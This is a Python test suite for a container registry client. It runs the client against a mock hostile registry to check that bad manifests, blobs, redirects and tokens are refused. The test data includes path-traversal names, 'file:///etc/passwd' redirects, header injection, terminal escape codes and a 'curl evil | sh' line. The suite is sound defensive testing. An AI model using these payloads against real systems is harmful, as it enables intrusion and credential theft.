"""Each rule of talking to registries is an attack that fails and leaves nothing; and what a line may do is borne."""

from __future__ import annotations

import base64
import gzip
import json
import os
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import trio
from pycompose.runtime.images import ImageError, Store, layers
from pycompose.runtime.images.registry import distribution
from pycompose.runtime.images.registry.progress import Transfer
from pycompose.runtime.images.registry.pull import pull
from pycompose.runtime.images.registry.push import push
from pycompose.runtime.images.store_folders import FOLDERS
from pycompose.runtime.images.verify import check

from . import base_image
from .base_image import Layout, digest, tar
from .conftest import need
from .hostile import INDEX, Answer, Hostile, hostile, ranged

LAYER = tar({"etc/file": b"content", "large": bytes(range(256)) * 4000})
USER = "me:secret"


@pytest.fixture
def evil() -> Iterator[Hostile]:
    with hostile() as found:
        yield found


@pytest.fixture
def other() -> Iterator[Hostile]:
    with hostile() as found:
        yield found


@pytest.fixture
def certificate(tmp_path: Path) -> tuple[str, str]:
    need("openssl")
    names = "subjectAltName=IP:127.0.0.1"
    command = f"openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=x -addext {names} -keyout k.pem -out c.pem"
    subprocess.run(command.split(), check=True, capture_output=True, cwd=tmp_path)
    return str(tmp_path / "c.pem"), str(tmp_path / "k.pem")


@pytest.fixture(autouse=True)
def hasty(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(distribution, "PAUSE", 0.001)


def left(store: Store) -> list[str]:
    """What is in the store, except for its own folders."""
    if not os.path.isdir(store.root):
        return []
    found = [f"{name}/{entry}" for name in FOLDERS for entry in os.listdir(f"{store.root}/{name}")]
    return found + sorted(store.names())


async def refused(store: Store, evil: Hostile, match: str, name: str = "app:1") -> ImageError:
    with pytest.raises(ImageError, match=match) as caught:
        await pull(store, f"{evil.name}/{name}")
    assert left(store) == []
    return caught.value


def good(evil: Hostile) -> tuple[Layout, dict[str, Any]]:
    layout = Layout()
    manifest = layout.image([LAYER])
    evil.serve(layout, manifest)
    return layout, manifest


def parts(layout: Layout, manifest: dict[str, Any]) -> dict[str, Any]:
    told: dict[str, Any] = json.loads(layout.blobs[manifest["digest"]])
    return told


# Manifests


async def test_the_image_as_it_should_be_is_pulled(store: Store, evil: Hostile) -> None:
    good(evil)
    await pull(store, f"{evil.name}/app:1")
    assert check(store) == []


@pytest.mark.parametrize(
    ("change", "match"),
    [
        ({"manifests": []}, "also an index"),
        ({"mediaType": INDEX}, "its index says|not of the kind"),
        ({"schemaVersion": 1}, "schema 1"),
        ({"layers": "x"}, "has no layers"),
        ({"layers": None}, "has no layers"),
        ({"config": None}, "no object"),
        ({"config": {"digest": "sha256:" + "0" * 64, "size": -1}}, "bad size"),
        ({"config": {"digest": "sha256:" + "0" * 64, "size": True}}, "bad size"),
        ({"config": {"digest": "sha256:" + "0" * 64, "size": 5 << 20}}, "configuration is too large"),
        ({"config": {"digest": "sha256:../../../../etc/passwd", "size": 1}}, "not a sha256 digest"),
        ({"config": {"digest": "sha256:" + "A" * 64, "size": 1}}, "not a sha256 digest"),
        ({"config": {"digest": "md5:" + "0" * 32, "size": 1}}, "not a sha256 digest"),
        ({"layers": []}, "differ in number"),
    ],
)
async def test_a_manifest_that_is_not_one_is_refused(
    store: Store, evil: Hostile, change: dict[str, Any], match: str
) -> None:
    layout, manifest = good(evil)
    evil.manifest("1", json.dumps({**parts(layout, manifest), **change}).encode())
    await refused(store, evil, match)
    assert not [path for path in evil.paths() if "passwd" in path]


@pytest.mark.parametrize("data", [b"", b"{", b"[]", b"null", b'{"layers": [', b"[" * 100_000, b"\xff\xfe"])
async def test_what_is_no_json_object_is_refused(store: Store, evil: Hostile, data: bytes) -> None:
    evil.manifest("1", data)
    await refused(store, evil, "manifest is not valid")


async def test_a_manifest_without_end_is_refused(store: Store, evil: Hostile) -> None:
    evil.answers["GET /v2/app/manifests/1"] = Answer(b" " * 65536, endless=True)
    await refused(store, evil, "larger than 4194304 bytes")


async def test_a_manifest_must_be_what_its_digest_says(store: Store, evil: Hostile) -> None:
    layout, manifest = good(evil)
    lie = "sha256:" + "1" * 64
    evil.manifest(lie, layout.blobs[manifest["digest"]])
    await refused(store, evil, "not what its digest says", f"app@{lie}")
    evil.manifest("1", layout.blobs[manifest["digest"]], **{"Docker-Content-Digest": lie})
    await refused(store, evil, "registry says that a manifest is")
    index = {"schemaVersion": 2, "manifests": [{**manifest, "digest": lie}]}
    evil.manifest("1", json.dumps(index).encode(), INDEX)
    await refused(store, evil, "not what its digest says")


async def test_a_manifest_must_be_of_the_kind_that_its_index_and_the_registry_say(store: Store, evil: Hostile) -> None:
    layout, manifest = good(evil)
    data = layout.blobs[manifest["digest"]]
    evil.manifest("1", data, INDEX)
    await refused(store, evil, "its index says|not of the kind")
    index = {"schemaVersion": 2, "manifests": [{**manifest, "mediaType": INDEX}]}
    evil.manifest("1", json.dumps(index).encode(), INDEX)
    await refused(store, evil, "its index says")
    evil.manifest("1", data, "application/json")
    await pull(store, f"{evil.name}/app:1")


async def test_indexes_are_not_followed_without_end(store: Store, evil: Hostile) -> None:
    _layout, manifest = good(evil)
    told = manifest
    for _ in range(4):
        data = json.dumps({"schemaVersion": 2, "manifests": [{**told, "mediaType": told["mediaType"]}]}).encode()
        told = {"digest": digest(data), "size": len(data), "mediaType": INDEX}
        evil.manifest(told["digest"], data, INDEX)
    evil.manifest("1", data, INDEX)
    await refused(store, evil, "nested too deep")


async def test_layers_that_come_from_elsewhere_are_refused(store: Store, evil: Hostile, other: Hostile) -> None:
    layout, manifest = good(evil)
    told = parts(layout, manifest)
    for change in (
        {"urls": [f"{other.address}/layer"]},
        {"mediaType": "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip"},
        {"mediaType": "application/vnd.oci.image.layer.nondistributable.v1.tar+gzip"},
        {"mediaType": "application/vnd.cncf.helm.chart.content.v1.tar+gzip"},
    ):
        evil.manifest("1", json.dumps({**told, "layers": [{**told["layers"][0], **change}]}).encode())
        await refused(store, evil, "elsewhere|not known")
    assert other.asked == []


# Blobs


@pytest.mark.parametrize("which", ["config", "layer"])
@pytest.mark.parametrize(
    ("change", "match"),
    [
        (lambda data: data[:-1] + bytes([data[-1] ^ 1]), "digest says|cannot be read"),
        (lambda data: data + b"\0", "more than"),
        (lambda data: data[:-1], "ended after"),
    ],
)
async def test_a_blob_must_be_what_its_digest_and_size_say(
    store: Store, evil: Hostile, which: str, change: Any, match: str
) -> None:
    layout, manifest = good(evil)
    told = parts(layout, manifest)
    blob = told["config"] if which == "config" else told["layers"][0]
    evil.blob(blob["digest"], change(layout.blobs[blob["digest"]]))
    await refused(store, evil, match)


async def test_a_blob_without_end_is_cut_off(store: Store, evil: Hostile) -> None:
    layout, manifest = good(evil)
    evil.blob(parts(layout, manifest)["layers"][0]["digest"], Answer(b"x" * 65536, endless=True))
    await refused(store, evil, "more than|cannot be read")


async def test_a_layer_must_unpack_to_what_the_configuration_says(store: Store, evil: Hostile) -> None:
    layout, manifest = good(evil)
    told = parts(layout, manifest)
    config = base_image.config_of([tar({"other": b""})])
    told["config"] = layout.blob(config, told["config"]["mediaType"])
    evil.blob(digest(config), config)
    evil.manifest("1", json.dumps(told).encode())
    await refused(store, evil, "unpacked, not")


async def test_one_bad_layer_takes_the_good_ones_with_it(store: Store, evil: Hostile) -> None:
    layout = Layout()
    manifest = layout.image([LAYER, tar({"b": b"2"}), tar({"c": b"3"})])
    evil.serve(layout, manifest)
    blob = parts(layout, manifest)["layers"][1]
    evil.blob(blob["digest"], b"?" * blob["size"])
    await refused(store, evil, "digest says|cannot be read")


@pytest.mark.parametrize("name", ["../evil", "/../../evil", "a/../../evil", ".wh...", ".wh.."])
async def test_a_layer_whose_names_lead_out_is_refused(store: Store, evil: Hostile, tmp_path: Path, name: str) -> None:
    layout = Layout()
    evil.serve(layout, layout.image([tar({"good": b"1"}), tar({name: b"evil"})]))
    await refused(store, evil, "leaves the layer|bad whiteout|bad name")
    assert not any("evil" in files for _, _, files in os.walk(tmp_path))


async def test_a_layer_that_grows_without_end_is_refused(
    store: Store, evil: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(layers, "MAX_BYTES", 1 << 20)
    layout = Layout()
    evil.serve(layout, layout.image([tar({"zeros": bytes(8 << 20)})]))
    await refused(store, evil, "too large|more bytes than it may")
    layout = Layout()
    after = tar({"a": b"1"}) + bytes(8 << 20)
    evil.serve(layout, layout.image([after]))
    await refused(store, evil, "more bytes than it may")
    monkeypatch.setattr(layers, "MAX_BYTES", 1 << 30)
    monkeypatch.setattr(layers, "MAX_AFTER", 1 << 20)
    await refused(store, evil, "too long after its end")


async def test_what_is_compressed_otherwise_or_cut_off_is_refused(store: Store, evil: Hostile) -> None:
    for compress in (
        lambda data: b"BZh9" + data,
        lambda data: gzip.compress(data)[:-20],
        lambda _: b"\x1f\x8b" + b"x" * 99,
    ):
        layout = Layout()
        evil.serve(layout, layout.image([LAYER], compress))
        await refused(store, evil, "bzip2|cannot be read|a layer")


# Lines that break, and registries that are busy


@pytest.mark.parametrize("ranges", [True, False])
async def test_a_line_that_breaks_is_resumed(store: Store, evil: Hostile, ranges: bool) -> None:
    layout = Layout()
    manifest = layout.image([tar({"random": os.urandom(3 << 20)})])
    evil.serve(layout, manifest)
    blob = parts(layout, manifest)["layers"][0]
    data = layout.blobs[blob["digest"]]
    if ranges:
        evil.blob(blob["digest"], ranged(data, [100, 1 << 20, 0, 1 << 20]))
    else:
        evil.blob(blob["digest"], [Answer(data, cut=100), Answer(data, cut=2 << 20), Answer(data)])
    events: list[Transfer] = []
    await pull(store, f"{evil.name}/app:1", report=events.append)
    assert check(store) == []
    asked = [one.headers.get("range") for one in evil.asked if blob["digest"] in one.path]
    assert asked[0] is None
    assert asked[-1] is not None
    assert "retrying" in {event.state for event in events}


async def test_a_line_that_breaks_always_is_an_error_and_whole_layers_wait_for_the_next_try(
    store: Store, evil: Hostile
) -> None:
    layout = Layout()
    manifest = layout.image([LAYER, tar({"b": b"2"})])
    evil.serve(layout, manifest)
    first, second = (one["digest"] for one in parts(layout, manifest)["layers"])
    whole, first_is_here = layout.blobs[second], threading.Event()

    def cut_off(_: object) -> Answer:
        assert first_is_here.wait(30)
        return Answer(whole, cut=10)

    def watch(event: Transfer) -> None:
        if event.part == first and event.state == "done":
            first_is_here.set()

    evil.blob(second, cut_off)
    with pytest.raises(ImageError, match=r"ended after|cannot be reached"):
        await pull(store, f"{evil.name}/app:1", report=watch)
    assert store.blobs.has(first)
    evil.blob(second, whole)
    events: list[Transfer] = []
    await pull(store, f"{evil.name}/app:1", report=events.append)
    assert [event.state for event in events if event.part == first][-1] == "here"


async def test_another_part_than_was_asked_for_is_refused(store: Store, evil: Hostile) -> None:
    layout = Layout()
    manifest = layout.image([tar({"random": os.urandom(1 << 20)})])
    evil.serve(layout, manifest)
    blob = parts(layout, manifest)["layers"][0]
    data = layout.blobs[blob["digest"]]
    wrong = Answer(data[5:], 206, {"Content-Range": f"bytes 5-{len(data) - 1}/{len(data)}"})
    evil.blob(blob["digest"], [Answer(data, cut=70_000), wrong])
    await refused(store, evil, "another part")


@pytest.mark.parametrize("status", [429, 500, 502, 503])
async def test_a_busy_registry_is_asked_again(store: Store, evil: Hostile, status: int) -> None:
    _layout, _manifest = good(evil)
    busy = Answer(b"", status, {"Retry-After": "0"})
    whole = evil.answers["GET /v2/app/manifests/1"]
    evil.answers["GET /v2/app/manifests/1"] = [busy, busy, whole]
    for name, answer in list(evil.answers.items()):
        if "/blobs/" in name:
            evil.answers[name] = [busy, answer]
    await pull(store, f"{evil.name}/app:1")
    evil.answers["GET /v2/app/manifests/2"] = busy
    with pytest.raises(ImageError, match=f"\\({status}\\)"):
        await pull(store, f"{evil.name}/app:2")


async def test_a_refusal_is_not_asked_again(store: Store, evil: Hostile) -> None:
    await refused(store, evil, r"not here \(404\)")
    assert evil.paths("/v2/app") == ["GET /v2/app/manifests/1"]


@pytest.mark.parametrize("body", [b"[" * 60_000, b'{"errors":' * 5_000, b'{"errors": [[1]]}', b"\xff"])
async def test_a_refusal_that_is_none_of_its_protocol_is_told_by_its_status(
    store: Store, evil: Hostile, body: bytes
) -> None:
    evil.answers["GET /v2/app/manifests/1"] = Answer(body, 404)
    await refused(store, evil, r"\(404\)")


async def test_what_a_registry_says_steers_no_terminal_and_adds_no_line(store: Store, evil: Hostile) -> None:
    said = "\x1b[2J\x1b]0;mine\x07denied\nhint: curl evil | sh\r\u202e" + "x" * 5000
    evil.answers["GET /v2/app/manifests/1"] = Answer(json.dumps({"errors": [{"message": said}]}).encode(), 404)
    error = await refused(store, evil, "denied hint: curl")
    assert str(error).isprintable()
    assert len(str(error)) < 500


async def test_a_layer_that_two_want_is_fetched_once(store: Store, evil: Hostile) -> None:
    layout, manifest = good(evil)
    async with trio.open_nursery() as nursery:
        for tag in ("1", "2", "3"):
            evil.manifest(tag, layout.blobs[manifest["digest"]])
            nursery.start_soon(pull, Store(store.places), f"{evil.name}/app:{tag}")
    blob = parts(layout, manifest)["layers"][0]["digest"]
    assert len(evil.paths(f"/v2/app/blobs/{blob}")) == 1
    assert len(store.ls()) == 3
    assert check(store) == []


async def test_a_pull_that_is_interrupted_leaves_no_half_layer(store: Store, evil: Hostile) -> None:
    layout, manifest = good(evil)
    blob = parts(layout, manifest)["layers"][0]
    under_way, over = trio.Event(), threading.Event()
    data = layout.blobs[blob["digest"]]

    def slow(_: object) -> Answer:
        assert over.wait(30)
        return Answer(data)

    evil.blob(blob["digest"], slow)

    def watch(event: Transfer) -> None:
        if event.part and event.state == "started":
            under_way.set()

    async with trio.open_nursery() as nursery:

        async def run() -> None:
            await pull(store, f"{evil.name}/app:1", report=watch)

        nursery.start_soon(run)
        await under_way.wait()
        nursery.cancel_scope.cancel()
    over.set()
    assert left(store) == []


# Credentials and redirects


def login(tmp_path: Path, *names: str) -> None:
    auths = {name: {"auth": base64.b64encode(USER.encode()).decode()} for name in names}
    (tmp_path / "docker/config.json").write_text(json.dumps({"auths": auths}))


def guarded(evil: Hostile, challenge: str, wanted: str) -> None:
    """Every answer needs that authorization."""
    for name, answer in list(evil.answers.items()):

        def check(headers: dict[str, str], answer: Any = answer) -> Answer:
            if headers.get("authorization") == wanted:
                said: Answer = answer(headers) if callable(answer) else answer
                return said
            return Answer(b"", 401, {"WWW-Authenticate": challenge})

        if name.startswith("GET /v2/"):
            evil.answers[name] = check


BASIC = "Basic " + base64.b64encode(USER.encode()).decode()


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
async def test_a_redirect_is_followed_without_credentials(
    store: Store, evil: Hostile, other: Hostile, tmp_path: Path, status: int
) -> None:
    login(tmp_path, evil.name, other.name)
    layout, _manifest = good(evil)
    for blob, data in layout.blobs.items():
        evil.blob(blob, Answer(b"", status, {"Location": f"{other.address}/storage/{blob}?signed=1"}))
        other.answers[f"GET /storage/{blob}"] = Answer(data)
    guarded(evil, 'Basic realm="x"', BASIC)
    await pull(store, f"{evil.name}/app:1")
    assert [one.headers["authorization"] for one in evil.asked if "authorization" in one.headers]
    assert len(other.asked) == 2
    assert not [one for one in other.asked if "authorization" in one.headers]


async def test_who_a_redirect_leads_to_gets_no_credentials_by_asking(
    store: Store, evil: Hostile, other: Hostile, tmp_path: Path
) -> None:
    login(tmp_path, evil.name, other.name)
    layout, manifest = good(evil)
    told = parts(layout, manifest)["config"]["digest"]
    evil.blob(told, Answer(b"", 307, {"Location": f"{other.address}/x"}))
    challenge = f'Bearer realm="{other.address}/token",service="x"'
    other.answers["GET /x"] = Answer(b"", 401, {"WWW-Authenticate": challenge})
    await refused(store, evil, "access denied")
    assert other.paths() == ["GET /x"]
    assert not [one for one in other.asked if "authorization" in one.headers]


async def test_redirects_end(store: Store, evil: Hostile) -> None:
    good(evil)
    evil.answers["GET /v2/app/manifests/1"] = Answer(b"", 302, {"Location": "/v2/app/manifests/1"})
    await refused(store, evil, "redirects without end")
    assert len(evil.paths("/v2/app")) == 11


@pytest.mark.parametrize(
    "location", ["file:///etc/passwd", "ftp://127.0.0.1/x", "http://me:word@127.0.0.1:1/x", "//[bad/x", "gopher://x/"]
)
async def test_redirects_lead_to_registries_only(store: Store, evil: Hostile, location: str) -> None:
    evil.answers["GET /v2/app/manifests/1"] = Answer(b"", 302, {"Location": location})
    await refused(store, evil, "no place for a blob|no address|cannot be reached")


async def test_no_redirect_leads_from_tls_to_plain_http(
    store: Store, other: Hostile, certificate: tuple[str, str]
) -> None:
    with hostile(certificate) as evil:
        layout, manifest = good(evil)
        told = parts(layout, manifest)["layers"][0]["digest"]
        evil.blob(told, Answer(b"", 307, {"Location": f"{other.address}/x"}))
        other.answers["GET /x"] = Answer(layout.blobs[told])
        await refused(store, evil, "from TLS to plain HTTP")
    assert other.asked == []


async def test_a_certificate_that_nobody_vouches_for_is_refused(
    store: Store, certificate: tuple[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pycompose.runtime.images.registry import config

    monkeypatch.setattr(config, "is_loopback", lambda _: False)  # as a registry elsewhere
    with hostile(certificate) as evil:
        good(evil)
        error = await refused(store, evil, "CERTIFICATE_VERIFY_FAILED")
        assert "SSL_CERT_FILE" in error.hint
        assert evil.asked == []
        monkeypatch.setenv("SSL_CERT_FILE", certificate[0])
        await pull(store, f"{evil.name}/app:1")
        monkeypatch.delenv("SSL_CERT_FILE")
        monkeypatch.setenv("PYCOMPOSE_REGISTRIES", str(tmp_path / "registries.toml"))
        for line in (f'ca = "{certificate[0]}"', "insecure = true"):
            (tmp_path / "registries.toml").write_text(f'["{evil.name}"]\n{line}\n')
            await pull(store, f"{evil.name}/app:1")
    with hostile() as plain:
        good(plain)
        error = await refused_plainly(store, plain)
        assert "insecure = true" in error.hint


@pytest.mark.parametrize("proxy", ["socks5://127.0.0.1:1", "ftp://127.0.0.1:1"])
async def test_a_proxy_that_cannot_be_used_is_told(store: Store, monkeypatch: pytest.MonkeyPatch, proxy: str) -> None:
    for name in ("HTTPS_PROXY", "HTTP_PROXY"):
        monkeypatch.setenv(name, proxy)
    with pytest.raises(ImageError, match="proxy cannot be used") as caught:
        await pull(store, "registry.example.org/app:1")
    assert "NO_PROXY" in caught.value.hint


async def test_a_proxy_is_used_for_registries_elsewhere_and_not_for_this_machine(
    store: Store, evil: Hostile, other: Hostile, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("HTTPS_PROXY", "HTTP_PROXY"):
        monkeypatch.setenv(name, other.address)
    good(evil)
    await pull(store, f"{evil.name}/app:1")
    assert other.asked == []
    with pytest.raises(ImageError, match=r"registry\.example\.org: cannot be reached"):
        await pull(store, "registry.example.org/app:1")


async def refused_plainly(store: Store, plain: Hostile) -> ImageError:
    """Nothing is sent in the clear to a registry that is neither here nor called insecure."""
    with pytest.raises(ImageError, match="SSL") as caught:
        await pull(store, f"{plain.name}/app:1")
    assert plain.asked == []
    return caught.value


async def test_a_token_is_asked_for_with_this_registrys_credentials_and_used(
    store: Store, evil: Hostile, other: Hostile, tmp_path: Path
) -> None:
    login(tmp_path, evil.name)
    good(evil)
    guarded(evil, f'Bearer realm="{other.address}/token?a=b",service="reg",scope="x"', "Bearer abc")
    other.answers["GET /token"] = Answer(b'{"token": "abc"}')
    await pull(store, f"{evil.name}/app:1")
    (asked,) = other.asked
    assert asked.path == "/token?a=b&service=reg&scope=repository%3Aapp%3Apull&account=me"
    assert asked.headers["authorization"] == BASIC
    assert not [one for one in evil.asked if one.headers.get("authorization", "").startswith("Basic")]


async def test_an_identity_token_is_exchanged(store: Store, evil: Hostile, other: Hostile, tmp_path: Path) -> None:
    auths = {evil.name: {"identitytoken": "refresh"}}
    (tmp_path / "docker/config.json").write_text(json.dumps({"auths": auths}))
    good(evil)
    guarded(evil, f'Bearer realm="{other.address}/token",service="reg"', "Bearer abc")
    other.answers["POST /token"] = Answer(b'{"access_token": "abc"}')
    await pull(store, f"{evil.name}/app:1")
    assert other.paths() == ["POST /token"]


@pytest.mark.parametrize(
    "realm", ["http://{other}/token", "file:///etc/passwd", "ftp://{other}/", "", "https://a:b@{other}/", "/token"]
)
async def test_a_token_server_without_tls_is_not_asked_for_a_registry_with_it(
    store: Store, other: Hostile, certificate: tuple[str, str], tmp_path: Path, realm: str
) -> None:
    with hostile(certificate) as evil:
        login(tmp_path, evil.name)
        good(evil)
        guarded(evil, f'Bearer realm="{realm.format(other=other.name)}",service="x"', "Bearer abc")
        await refused(store, evil, "not safe to ask")
        assert not [one for one in evil.asked if "authorization" in one.headers]
    assert other.asked == []


@pytest.mark.parametrize(
    "answer",
    [
        Answer(b'{"token": "a\\r\\nX-Evil: 1"}'),
        Answer(b'{"token": ""}'),
        Answer(b'{"token": 5}'),
        Answer(b"[]"),
        Answer(b"{"),
        Answer(b"[" * 100_000),
        Answer(b"x" * 65536, endless=True),
        Answer(b"", 302, {"Location": "http://127.0.0.1:1/"}),
        Answer(b"", 401),
    ],
)
async def test_a_token_that_is_none_is_refused(store: Store, evil: Hostile, other: Hostile, answer: Answer) -> None:
    good(evil)
    guarded(evil, f'Bearer realm="{other.address}/token"', "Bearer abc")
    other.answers["GET /token"] = answer
    await refused(store, evil, "gave no token|larger than|denied|302")


async def test_credentials_of_one_registry_are_not_tried_at_another(
    store: Store, evil: Hostile, tmp_path: Path
) -> None:
    login(tmp_path, "example.org", "docker.io", "127.0.0.1")
    good(evil)
    guarded(evil, 'Basic realm="x"', BASIC)
    await refused(store, evil, "access denied")
    assert not [one for one in evil.asked if "authorization" in one.headers]


# Pushing


def blobless(evil: Hostile, location: str) -> None:
    evil.answers["POST /v2/app/blobs/uploads/"] = Answer(b"", 202, {"Location": location})


async def test_a_blob_is_not_sent_with_credentials_to_another_place(
    store: Store, evil: Hostile, other: Hostile, tmp_path: Path
) -> None:
    _layout, _manifest = good(evil)
    await pull(store, f"{evil.name}/app:1")
    login(tmp_path, evil.name)
    evil.answers.clear()
    blobless(evil, f"{other.address}/up")
    other.answers["PATCH /up"] = Answer(b"", 202, {"Location": f"{other.address}/up"})
    other.answers["PUT /up"] = Answer(b"", 201)
    evil.answers["PUT /v2/app/manifests/1"] = Answer(b"", 201)
    check = evil.answers["POST /v2/app/blobs/uploads/"]
    evil.answers["POST /v2/app/blobs/uploads/"] = lambda headers: (
        check if headers.get("authorization") == BASIC else Answer(b"", 401, {"WWW-Authenticate": "Basic realm=x"})
    )
    await push(store, f"{evil.name}/app:1")
    assert [one for one in evil.asked if one.headers.get("authorization") == BASIC]
    assert len(other.paths("/up")) == 4
    assert not [one for one in other.asked if "authorization" in one.headers]


async def test_an_upload_that_breaks_goes_on_where_the_registry_is(store: Store, evil: Hostile) -> None:
    _layout, _manifest = good(evil)
    await pull(store, f"{evil.name}/app:1")
    evil.answers.clear()
    evil.asked.clear()
    blobless(evil, "/up/1")
    evil.answers["PATCH /up/1"] = [Answer(b"", 503), Answer(b"", 202, {"Location": "/up/2"})]
    evil.answers["GET /up/1"] = Answer(b"", 204, {"Location": "/up/1", "Range": "0-99"})
    for number in (1, 2):
        evil.answers[f"PUT /up/{number}"] = Answer(b"", 201)
    evil.answers["PUT /v2/app/manifests/1"] = Answer(b"", 201)
    await push(store, f"{evil.name}/app:1")
    sent = [one.headers for one in evil.asked if one.method == "PATCH"]
    assert sent[1]["content-range"].startswith("100-")
    assert int(sent[0]["content-length"]) == int(sent[1]["content-length"]) + 100


async def test_a_registry_that_changes_the_manifest_is_told_of(store: Store, evil: Hostile) -> None:
    good(evil)
    await pull(store, f"{evil.name}/app:1")
    evil.answers["PUT /v2/app/manifests/1"] = Answer(b"", 201, {"Docker-Content-Digest": "sha256:" + "1" * 64})
    for name in list(evil.answers):
        if name.startswith("GET /v2/app/blobs/"):
            evil.answers[name.replace("GET", "HEAD")] = Answer(b"")
    with pytest.raises(ImageError, match="made sha256:1111"):
        await push(store, f"{evil.name}/app:1")
